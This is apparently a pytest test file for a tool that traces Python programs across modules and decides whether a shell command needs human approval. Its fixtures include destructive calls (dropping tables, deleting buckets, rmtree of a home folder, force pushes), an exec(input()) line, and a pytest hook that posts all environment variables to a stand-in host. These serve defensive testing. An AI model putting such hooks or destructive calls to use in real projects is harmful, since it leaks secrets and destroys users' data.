"""A Python program on disk is judged by what it calls through all of its modules, for the words given."""

from __future__ import annotations

import pytest
from tests.gate.disk.test_follow import judged
from tests.gate.example_project import ROOT, Machine, judge
from tests.tables import for_each

from operators_edge.shell.code.python import trace

API = (
    "import requests\nclass Api:\n    def __init__(self):\n        self.s = requests.Session()\n"
    "    def all(self):\n        return self.s.get('https://api.shop.example/u').json()\n"
    "    def drop(self, one):\n        self.s.delete(f'https://api.shop.example/u/{one}')\n"
)
CLI = (
    "import sys\nfrom api import Api\ndef main(verb):\n    api = Api()\n    for one in api.all():\n"
    "        if verb == 'drop':\n            api.drop(one)\n        print(one)\nmain(sys.argv[1])\n"
)
POSTS = (
    "import json, pathlib, requests\n"
    "c = json.loads(pathlib.Path(__file__).with_name('c.json').read_text())\n"
    "requests.post(c['url'], json={})\n"
)
MAIL = "import smtplib\ndef run():\n    with smtplib.SMTP(HOST) as s:\n        s.sendmail('a', 'b', 'c')\n"
SCRIPTS = "[project]\nname = 'x'\n[project.scripts]\nletters = 'post:run'\nread = 'post:show'\n"
RESET = (
    "from sqlalchemy import create_engine, MetaData\nfrom conf import URL\n"
    "MetaData().drop_all(bind=create_engine(URL))\n"
)
MOCKED = (
    "import httpx\nfrom conf import transport\n"
    "with httpx.Client(base_url='https://a.example', transport=transport()) as c:\n    c.delete('/x')\n"
)
CLOUD = "import boto3\ndef drop(name):\n    boto3.resource('s3').Bucket(name).delete()\n"
GIT = (
    "import subprocess\nfrom options import options\ndef git(*words):\n    line = ['git', *words]\n"
    "    subprocess.run(line, check=True)\ngit('push', *options(), 'origin', 'main')\n"
)
DJANGO = "from django.core.management import execute_from_command_line\nimport sys\n"
"execute_from_command_line(sys.argv)\n"
PURGE = (
    "from django.core.management.base import BaseCommand\nfrom shop.models import Order\n"
    "class Command(BaseCommand):\n    def add_arguments(self, parser):\n"
    "        parser.add_argument('--dry-run', action='store_true')\n"
    "    def handle(self, *args, dry_run, **options):\n"
    "        found = Order.objects.filter(paid=False)\n        if dry_run:\n"
    "            self.stdout.write(str(found.count()))\n"
    "            return\n        found.delete()\n"
)
SHOP = {
    "manage.py": DJANGO,
    "shop/__init__.py": "",
    "shop/models.py": "from django.db import models\nclass Order(models.Model):\n    pass\n",
    "shop/management/commands/purge_orders.py": PURGE,
}

PAIRS = {
    "a subcommand": ({"x.py": CLI, "api.py": API}, "python x.py drop", {}, "python x.py list"),
    "an address in a file": (
        {"x.py": POSTS, "c.json": '{"url": "https://hooks.chat.example/1"}'},
        "python x.py",
        {"c.json": '{"url": "http://localhost:8080/1"}'},
        "python x.py",
    ),
    "mail of a package's own script": (
        {
            "pyproject.toml": SCRIPTS,
            "post.py": f"HOST = 'mail.example'\n{MAIL}def show():\n    print(HOST)\n",
        },
        "poetry run letters",
        {},
        "poetry run read",
    ),
    "mail to a server for tests on this machine": (
        {"pyproject.toml": SCRIPTS, "post.py": f"HOST = 'localhost'\n{MAIL}"},
        "uv run letters",
        {"post.py": f"HOST = 'localhost'\n{MAIL.replace('(HOST)', '(HOST, 1025)')}"},
        "uv run letters",
    ),
    "tables of a database": (
        {"x.py": RESET, "conf.py": "URL = 'postgresql://a:b@db.shop.example/shop'"},
        "python x.py",
        {"conf.py": "URL = 'sqlite:///:memory:'"},
        "python x.py",
    ),
    "answers of its own": (
        {
            "x.py": MOCKED,
            "conf.py": "import httpx\ndef transport():\n    return httpx.HTTPTransport()",
        },
        "python x.py",
        {
            "conf.py": "import httpx\ndef transport():\n"
            "    return httpx.MockTransport(lambda r: httpx.Response(204))"
        },
        "python x.py",
    ),
    "a cloud that is made in the process": (
        {"x.py": "from cloud import drop\ndrop('a')", "cloud.py": CLOUD},
        "python x.py",
        {
            "x.py": "from moto import mock_aws\nfrom cloud import drop\nwith mock_aws():\n    drop('a')"
        },
        "python x.py",
    ),
    "options of another module": (
        {
            "x.py": GIT,
            "options.py": "def options():\n    found = []\n    found.append('--force')\n    return found",
        },
        "python x.py",
        {"options.py": "def options():\n    return ['--force', '--dry-run']"},
        "python x.py",
    ),
    "a Django command": (
        SHOP,
        "python manage.py purge_orders",
        {},
        "python manage.py purge_orders --dry-run",
    ),
    "a class of another module": (
        {
            "x.py": "from own import MockTransport\nimport httpx\n"
            "httpx.Client(transport=MockTransport()).delete('https://a.example')",
            "own.py": "import httpx\nclass MockTransport(httpx.HTTPTransport):\n    pass",
        },
        "python x.py",
        {"x.py": "print(1)"},
        "python x.py",
    ),
}


@pytest.mark.parametrize("case", PAIRS.values(), ids=PAIRS)
def test_what_a_committed_program_does_elsewhere_needs_a_person_and_its_harmless_twin_does_not(
    case,
):
    files, dangerous, changed, harmless = case
    assert judged(dangerous, files, committed=files).effect == "junction"
    files = {**files, **changed}
    assert judged(harmless, files, committed=files).effect == "allow"


DELETES = {
    "a default of another module": (
        "python x.py wipe",
        {
            "x.py": "import typer\nfrom places import OLD\nfrom lib import empty\napp = typer.Typer()\n"
            "@app.command()\ndef show():\n    print(OLD)\n"
            "@app.command()\ndef wipe(folder: str = OLD):\n    empty(folder)\napp()\n",
            "places.py": "OLD = 'records'",
            "lib.py": "import shutil\ndef empty(folder):\n    shutil.rmtree(folder)",
        },
    ),
    "each file of a folder": (
        "python -m tool gc",
        {
            "tool/__init__.py": "",
            "tool/__main__.py": "import argparse\nfrom . import gc\np = argparse.ArgumentParser()\n"
            "s = p.add_subparsers()\n"
            "s.add_parser('gc').set_defaults(run=gc.run)\na = p.parse_args()\na.run(a)",
            "tool/gc.py": "from pathlib import Path\nDATA = Path(__file__).parent.parent / 'records'\n"
            "def run(a):\n    for one in sorted(DATA.glob('*.tar')):\n        one.unlink()",
        },
    ),
    "a fixture": (
        "pytest -q",
        {
            "conftest.py": "import pytest, shutil\nfrom app import DATA\n@pytest.fixture(autouse=True)\n"
            "def fresh():\n    shutil.rmtree(DATA)\n    yield\n",
            "app.py": "from pathlib import Path\nDATA = Path(__file__).parent / 'records'",
        },
    ),
}


@pytest.mark.parametrize("case", DELETES.values(), ids=DELETES)
def test_what_a_committed_program_deletes_is_kept_first_and_nobody_is_asked(case):
    command, files = case
    found = judged(command, files, committed=files)
    assert (found.effect, bool(found.destroys)) == ("allow", True)


def test_the_other_subcommand_deletes_nothing_that_has_to_be_kept():
    _, files = DELETES["a default of another module"]
    found = judged("python x.py show", files, committed=files)
    assert (found.effect, found.destroys) == ("allow", ())


def test_what_can_be_made_again_is_not_kept():
    command, files = DELETES["a fixture"]
    found = judged(command, files, committed=files, ignored=(f"{ROOT}/records",))
    assert (found.effect, found.destroys) == ("allow", ())


def test_a_program_that_git_does_not_hold_is_judged_by_all_that_is_in_it():
    files = {"x.py": CLI, "api.py": API}
    assert judged("python x.py list", files, committed=["x.py"]).effect == "junction"
    assert judged("python x.py list", files).effect == "junction"


def test_a_program_that_the_line_changes_first_is_judged_by_all_that_is_in_it():
    files = {"x.py": CLI, "api.py": API}
    line = "echo 'x = 1' >> api.py; python x.py list"
    assert judged(line, files, committed=files).effect == "junction"


def test_the_name_of_a_command_counts_while_something_of_it_is_not_known():
    files = {**SHOP, "shop/management/commands/purge_orders.py": PURGE + "    x = exec(input())\n"}
    assert (
        judged("python manage.py purge_orders --dry-run", files, committed=files).effect
        == "junction"
    )


def test_a_finding_names_the_file_and_the_line_of_the_call():
    files = {"x.py": CLI, "api.py": API}
    found = judged("python x.py drop", files, committed=files).findings
    assert "api.py:8" in [one.source for one in found]


@pytest.mark.parametrize(
    "text", ["", "scripts", "[project]\nscripts = 3", "[tool.poetry.scripts]\na = 'b'"]
)
def test_settings_without_an_entry_point_name_none(text):
    assert judged("poetry run a", {"pyproject.toml": text}).effect == "allow"


SETTINGS_BY_NAME = (
    "import os, pathlib, tomllib\nfrom sqlalchemy import create_engine, text\n"
    "env = os.environ.get('APP_ENV', 'test')\n"
    "with open(pathlib.Path(__file__).parent / f'{env}.toml', 'rb') as f:\n    conf = tomllib.load(f)\n"
    "with create_engine(conf['url']).begin() as c:\n    c.execute(text('DELETE FROM accounts'))\n"
)
BY_NAME = {
    "x.py": SETTINGS_BY_NAME,
    "test.toml": "url = 'sqlite://'",
    "production.toml": "url = 'postgresql://db.example.com/a'",
}
DRY = (
    "import os, psycopg2\nc = psycopg2.connect('postgresql://db.example.com/x')\n"
    "if not os.environ.get('DRY_RUN'):\n    c.cursor().execute('DELETE FROM a')\n"
)
DELETES_IN = "import os, shutil\nshutil.rmtree(os.environ.get('DIR', 'build'))\n"
GIVEN_BY_THE_LINE = {
    "APP_ENV=test python3 x.py": (BY_NAME, "allow"),
    "export APP_ENV=test && python3 x.py": (BY_NAME, "allow"),
    "APP_ENV=production python3 x.py": (BY_NAME, "junction"),
    "APP_ENV=test; python3 x.py": (BY_NAME, "junction"),
    "APP_ENV=test sudo python3 x.py": (BY_NAME, "junction"),
    "export APP_ENV=test APP_ENV=production; python3 x.py": (BY_NAME, "junction"),
    "cp production.toml test.toml; APP_ENV=test python3 x.py": (BY_NAME, "junction"),
    "sed -i s/sqlite/mysql/ test.toml; APP_ENV=test python3 x.py": (BY_NAME, "junction"),
    "python3 x.py": (BY_NAME, "junction"),
    "DRY_RUN=1 python3 x.py": ({"x.py": DRY}, "allow"),
    "DRY_RUN= python3 x.py": ({"x.py": DRY}, "junction"),
    "DRY_RUN=1; python3 x.py": ({"x.py": DRY}, "junction"),
    "DIR=/srv/app python3 x.py": ({"x.py": DELETES_IN}, "junction"),
    "DIR=dist python3 x.py": ({"x.py": DELETES_IN}, "allow"),
}


@pytest.mark.parametrize("command", GIVEN_BY_THE_LINE)
def test_a_variable_that_the_line_gives_to_a_program_has_that_value(command):
    files, effect = GIVEN_BY_THE_LINE[command]
    assert judged(command, files, committed=tuple(files)).effect == effect


def test_a_variable_that_the_program_sets_itself_may_have_another_value():
    files = {
        **BY_NAME,
        "x.py": f"import os\nos.environ['APP_ENV'] = 'production'\n{SETTINGS_BY_NAME}",
    }
    assert judged("APP_ENV=test python3 x.py", files, committed=tuple(files)).effect == "junction"


PAY = "import stripe\n%s\nstripe.PaymentIntent.create(amount=1)\n"
MOCK = "stripe.api_base = 'http://localhost:12111'"


@for_each(
    ("files", "expected"),
    [
        ({"x.py": PAY % MOCK}, "allow"),
        (
            {
                "x.py": PAY % "import conf\nconf.to(stripe)",
                "conf.py": f"def to(stripe):\n    {MOCK}\n",
            },
            "allow",
        ),
        (
            {"x.py": PAY % "import os\nstripe.api_base = f'http://localhost:{os.environ[\"P\"]}'"},
            "allow",
        ),
        (
            {
                "x.py": "import stripe\nc = stripe.StripeClient('k', base_addresses={'api': 'http://localhost:1'})\n"
                "c.refunds.create()\n"
            },
            "allow",
        ),
        (
            {
                "x.py": "from slack_sdk import WebClient\nc = WebClient(base_url='http://localhost:1/')\n"
                "c.chat_postMessage(text='x')\n"
            },
            "allow",
        ),
        ({"x.py": PAY % "" + MOCK}, "junction"),
        ({"x.py": PAY % "stripe.api_base = 'https://api.stripe.com'"}, "junction"),
        ({"x.py": PAY % "stripe.api_base = 'http://localhost@a.example'"}, "junction"),
        (
            {
                "x.py": PAY
                % "import os\nstripe.api_base = os.environ.get('B', 'http://localhost:1')"
            },
            "allow",
        ),
        ({"x.py": PAY % f"import os\nif os.environ.get('MOCK'):\n    {MOCK}"}, "junction"),
        ({"x.py": PAY % f"{MOCK}\nsetattr(stripe, 'api_' + 'base', open('f').read())"}, "junction"),
        (
            {
                "x.py": PAY
                % f"import sys\n{MOCK}\nsys.modules['stripe'].api_base = 'https://a.example'"
            },
            "junction",
        ),
        (
            {"x.py": f"import stripe\n{MOCK}\nstripe.StripeClient('k').refunds.create()\n"},
            "junction",
        ),
    ],
)
def test_a_service_counts_as_this_machine_where_the_program_surely_says_so(files, expected):
    assert judged("python x.py", files, committed=tuple(files)).effect == expected


HOOK = (
    "import os, requests\ndef pytest_sessionfinish(session, exitstatus):\n"
    "    requests.post('https://h.example.com/x', json=dict(os.environ))\n"
)
REPORT = (
    "import json\ndef pytest_sessionfinish(session, exitstatus):\n    open('report.json', 'w')\n"
)
PLUGINS = {
    "a list": ("pytest -q", {"conftest.py": "pytest_plugins = ['tests.report']\n"}),
    "a name": ("pytest", {"conftest.py": "pytest_plugins = 'tests.report'\n"}),
    "several": (
        "pytest tests",
        {"conftest.py": "pytest_plugins = (\n    'x',\n    'tests.report',\n)\n"},
    ),
    "an option": ("pytest -p tests.report", {}),
    "settings": ("pytest", {"pytest.ini": "[pytest]\naddopts = -q -p tests.report\n"}),
    "settings in TOML": (
        "pytest",
        {"pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p tests.report'\n"},
    ),
    "an entry point": (
        "pytest",
        {"pyproject.toml": "[project.entry-points.pytest11]\nreport = 'tests.report'\n"},
    ),
    "a variable": ("PYTEST_PLUGINS=tests.report pytest", {}),
}


@pytest.mark.parametrize(("command", "more"), PLUGINS.values(), ids=PLUGINS)
def test_the_hooks_of_a_plugin_that_pytest_loads_are_followed(command, more):
    files = {"tests/__init__.py": "", "tests/report.py": HOOK, **more}
    assert judged(command, files, committed=files).effect == "junction"
    files["tests/report.py"] = REPORT
    assert judged(command, files, committed=files).effect == "allow"


@pytest.mark.parametrize("command", ["pytest", "pytest tests", "pytest -q tests/unit"])
def test_hooks_of_folders_below_the_tests_count(command):
    files = {"tests/unit/deep/conftest.py": HOOK, "tests/unit/test_a.py": "def test_a(): pass\n"}
    assert judged(command, files, committed=files).effect == "junction"
    assert judged("pytest tests/unit/test_a.py", files, committed=files).effect == "allow"


CONFTEST = (
    "import tomllib, pathlib, boto3, psycopg, pytest, requests\n"
    "@pytest.fixture(scope='session')\ndef cfg():\n"
    "    return tomllib.loads(pathlib.Path('t.toml').read_text())\n@pytest.fixture\ndef made(cfg):\n    %s\n"
)
BUCKET = "boto3.client('s3', endpoint_url=cfg['url']).delete_bucket(Bucket='x')"
TEST = "def test_x(made):\n    pass\n"
HERE, AWAY = 'url = "http://localhost:4566"\n', 'url = "https://s3.shop.example"\n'


@for_each(
    ("body", "settings", "test", "expected"),
    [
        (BUCKET, HERE, TEST, "allow"),
        ("requests.delete(cfg['url'] + '/all')", HERE, TEST, "allow"),
        ("psycopg.connect(cfg['url']).execute('DROP TABLE x')", HERE, TEST, "allow"),
        (BUCKET, AWAY, TEST, "junction"),
        ("requests.delete(cfg['url'] + '/all')", AWAY, TEST, "junction"),
        (
            "psycopg.connect(cfg['url']).execute('DROP TABLE x')",
            'url = "postgres://db.shop.example/shop"\n',
            TEST,
            "junction",
        ),
        (BUCKET.replace("'url'", "'other'"), HERE, TEST, "junction"),
        (f"cfg['url'] = open('f').read()\n    {BUCKET}", HERE, TEST, "junction"),
        (
            BUCKET,
            HERE,
            f"import pytest\n@pytest.fixture\ndef cfg():\n    return open('f')\n{TEST}",
            "junction",
        ),
        (BUCKET, HERE, f"import pytest\n@pytest.mark.parametrize('cfg', [1])\n{TEST}", "junction"),
        (
            BUCKET,
            HERE,
            f"import pytest\n@pytest.fixture(name='cfg')\ndef other():\n    return open('f')\n{TEST}",
            "junction",
        ),
    ],
)
def test_a_fixture_may_have_an_address_from_a_file_of_settings(body, settings, test, expected):
    files = {"conftest.py": CONFTEST % body, "t.toml": settings, "test_a.py": test}
    assert judged("pytest", files, committed=tuple(files)).effect == expected


def runs(command, files):
    files = {f"{ROOT}/{name}": text for name, text in files.items()}
    return [one.source for one in judge(command, Machine(files)).findings if one.source]


WIPES = "import shutil\ndef test_it(): shutil.rmtree('/home/ann/photos')\n"
CALM = "def test_it(): pass\n"
SUITE = {
    "conftest.py": "",
    "test_top.py": WIPES,
    "tests/test_near.py": WIPES,
    "tests/unit/test_deep.py": WIPES,
    "tests/unit/test_calm.py": CALM,
    "node_modules/x/test_other.py": WIPES,
}


@for_each(
    ("command", "found"),
    [
        ("pytest", ["test_top.py", "tests/test_near.py", "tests/unit/test_deep.py"]),
        ("python -m pytest -q", ["test_top.py", "tests/test_near.py", "tests/unit/test_deep.py"]),
        ("pytest tests", ["tests/test_near.py", "tests/unit/test_deep.py"]),
        ("pytest tests/unit", ["tests/unit/test_deep.py"]),
        ("pytest tests/unit/test_deep.py::test_it", ["tests/unit/test_deep.py"]),
        ("pytest tests/unit/test_calm.py", []),
        ("pytest tests/test_near.py", ["tests/test_near.py"]),
    ],
)
def test_pytest_runs_the_tests_that_it_is_given_and_those_below_a_folder(command, found):
    assert sorted({one.partition(":")[0] for one in runs(command, SUITE)}) == found


def test_fixtures_above_a_test_run_with_it():
    suite = {**SUITE, "tests/conftest.py": "import shutil\nshutil.rmtree('/home/ann/photos')\n"}
    assert runs("pytest tests/unit/test_calm.py", suite)[0].startswith("tests/conftest.py")


def test_a_suite_that_is_too_long_to_be_followed_is_tried_a_few_times_alone(monkeypatch):
    tried = []
    monkeypatch.setattr(trace, "trace", lambda start, *_: tried.append(start.path))
    suite = {f"tests/test_{number}.py": CALM for number in range(20)}
    judge("pytest", Machine({f"{ROOT}/{name}": text for name, text in suite.items()}))
    assert len(tried) < 5
